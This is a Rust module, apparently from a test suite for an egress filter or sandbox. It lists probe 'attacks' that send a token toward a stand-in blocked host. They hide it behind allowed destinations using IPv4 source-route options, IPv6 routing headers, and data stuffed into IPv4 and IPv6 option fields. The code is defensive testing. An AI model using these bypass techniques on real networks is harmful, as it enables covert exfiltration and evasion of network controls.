//! Packets whose header names an allowed destination and whose options lead elsewhere or carry data themselves.

use std::net::Ipv4Addr;

use super::{Attack, token, wire};
use crate::attack::{
    aim::{Aim, GATEWAY4, GOOD4, GOOD6},
    call::{Done, Sock, settle},
};

const IP: i32 = libc::IPPROTO_IP;
const IP6: i32 = libc::IPPROTO_IPV6;
const LOOSE: u8 = 131;
const STRICT: u8 = 137;

fn source_route(kind: u8, hop: Ipv4Addr) -> Vec<u8> {
    let mut bytes = vec![1, kind, 7, 4];
    bytes.extend(hop.octets());
    bytes
}

fn routed(socket: &Sock, route: &[u8]) -> Done {
    socket.option("IP_OPTIONS", IP, libc::IP_OPTIONS, route)
}

/// A segment routing header; the kernel sends to its last segment first.
fn segments(aim: &Aim<'_>) -> Vec<u8> {
    let mut bytes = vec![0, 4, 4, 1, 1, 0, 0, 0];
    bytes.extend([0; 16]);
    bytes.extend(aim.bad6().octets());
    bytes
}

fn segmented(socket: &Sock, header: &[u8]) -> Done {
    socket.option("IPV6_RTHDR", IP6, libc::IPV6_RTHDR, header)
}

/// Options of padding that hold the token.
fn padding(aim: &Aim<'_>) -> Vec<u8> {
    let token = aim.token();
    let size = (token.len() + 4).next_multiple_of(8);
    let blocks = u8::try_from(size / 8 - 1).unwrap_or_default();
    let pad = u8::try_from(size - 4).unwrap_or_default();
    let mut bytes = vec![0, blocks, 0x1e, pad];
    bytes.extend(token);
    bytes.resize(size, 0);
    bytes
}

fn with_header(at: &'static str, option: i32, aim: &Aim<'_>) -> Done {
    let socket = Sock::udp6()?;
    socket.option(at, IP6, option, &padding(aim))?;
    socket.send_to(aim.good6(), b"fine")
}

fn with_control(option: i32, aim: &Aim<'_>) -> Done {
    Sock::udp6()?.send_with((IP6, option, &padding(aim)), Some(&aim.good6().into()), b"fine")
}

pub(super) const ATTACKS: &[Attack] = &[
    wire("f-loose-udp", "UDP with a loose source route", |aim| {
        let socket = Sock::udp4()?;
        routed(&socket, &source_route(LOOSE, aim.bad4()))?;
        socket.send_to(aim.good4(), &aim.token())
    }),
    wire("f-loose-peer", "UDP to a peer, the source route set afterwards", |aim| {
        let socket = Sock::udp4()?;
        socket.connect(aim.good4())?;
        routed(&socket, &source_route(LOOSE, aim.bad4()))?;
        socket.send(&aim.token())
    }),
    wire("f-loose-control", "UDP with a source route in a control message", |aim| {
        let route = source_route(LOOSE, aim.bad4());
        Sock::udp4()?.send_with((IP, libc::IP_RETOPTS, &route), Some(&aim.good4().into()), &aim.token())
    }),
    token("f-strict-udp", "UDP with a strict source route", |aim| {
        let socket = Sock::udp4()?;
        routed(&socket, &source_route(STRICT, GATEWAY4))?;
        socket.send_to(aim.good4(), &aim.token())
    }),
    wire("f-loose-tcp", "TCP with a loose source route", |aim| {
        let socket = Sock::tcp4()?;
        routed(&socket, &source_route(LOOSE, aim.bad4()))?;
        socket.connect(aim.good4())
    }),
    token("f-loose-tcp-after", "TCP with a source route set after the connect", |aim| {
        let socket = Sock::tcp4()?;
        socket.connect(aim.good4())?;
        routed(&socket, &source_route(LOOSE, aim.bad4()))?;
        socket.send(&aim.token())?;
        settle(20)
    }),
    wire("f-loose-onward", "a source route onward from an allowed host", |aim| {
        let socket = Sock::udp4()?;
        routed(&socket, &source_route(LOOSE, GOOD4))?;
        socket.send_to(aim.to4(), &aim.token())
    }),
    token("f-record", "data in an IPv4 option that records a route", |aim| {
        let token = aim.token();
        let size = (token.len() + 4).next_multiple_of(4);
        // An option of a kind that nobody defined, sent as it is.
        let mut bytes = vec![0x9e, u8::try_from(token.len() + 2).unwrap_or_default()];
        bytes.extend(token);
        bytes.resize(size, 1);
        let socket = Sock::udp4()?;
        routed(&socket, &bytes)?;
        socket.send_to(aim.good4(), b"fine")
    })
    .root(),
    wire("f-segments-udp", "UDP with a routing header", |aim| {
        let socket = Sock::udp6()?;
        segmented(&socket, &segments(aim))?;
        socket.send_to(aim.good6(), &aim.token())
    }),
    wire("f-segments-peer", "UDP to a peer, the routing header set afterwards", |aim| {
        let socket = Sock::udp6()?;
        socket.connect(aim.good6())?;
        segmented(&socket, &segments(aim))?;
        socket.send(&aim.token())
    }),
    wire("f-segments-control", "UDP with a routing header in a control message", |aim| {
        let header = segments(aim);
        Sock::udp6()?.send_with((IP6, libc::IPV6_RTHDR, &header), Some(&aim.good6().into()), &aim.token())
    }),
    wire("f-segments-tcp", "TCP with a routing header", |aim| {
        let socket = Sock::tcp6()?;
        segmented(&socket, &segments(aim))?;
        socket.connect(aim.good6())
    }),
    wire("f-segments-tcp-after", "TCP with a routing header set after the connect", |aim| {
        let socket = Sock::tcp6()?;
        socket.connect(aim.good6())?;
        segmented(&socket, &segments(aim))?;
        socket.send(&aim.token())?;
        settle(20)
    }),
    wire("f-segments-onward", "a routing header onward from an allowed host", |aim| {
        let mut header = segments(aim);
        header[24..].copy_from_slice(&GOOD6.octets());
        let socket = Sock::udp6()?;
        segmented(&socket, &header)?;
        socket.send_to(aim.to6(), &aim.token())
    }),
    token("f-destination", "data in destination options", |aim| {
        with_header("IPV6_DSTOPTS", libc::IPV6_DSTOPTS, aim)
    })
    .root(),
    token("f-destination-control", "data in destination options of a control message", |aim| {
        with_control(libc::IPV6_DSTOPTS, aim)
    })
    .root(),
    token("f-hops", "data in hop-by-hop options", |aim| with_header("IPV6_HOPOPTS", libc::IPV6_HOPOPTS, aim))
        .root(),
    token("f-hops-control", "data in hop-by-hop options of a control message", |aim| {
        with_control(libc::IPV6_HOPOPTS, aim)
    })
    .root(),
    token("f-routed-destination", "data in destination options before a routing header", |aim| {
        let mut header = segments(aim);
        header[24..].copy_from_slice(&GOOD6.octets());
        let socket = Sock::udp6()?;
        segmented(&socket, &header)?;
        socket.option("IPV6_RTHDRDSTOPTS", IP6, libc::IPV6_RTHDRDSTOPTS, &padding(aim))?;
        socket.send_to(aim.good6(), b"fine")
    })
    .root(),
    token("f-old-control", "data in destination options of the old kind", |aim| {
        const IPV6_2292DSTOPTS: i32 = 4;
        with_control(IPV6_2292DSTOPTS, aim)
    })
    .root(),
];
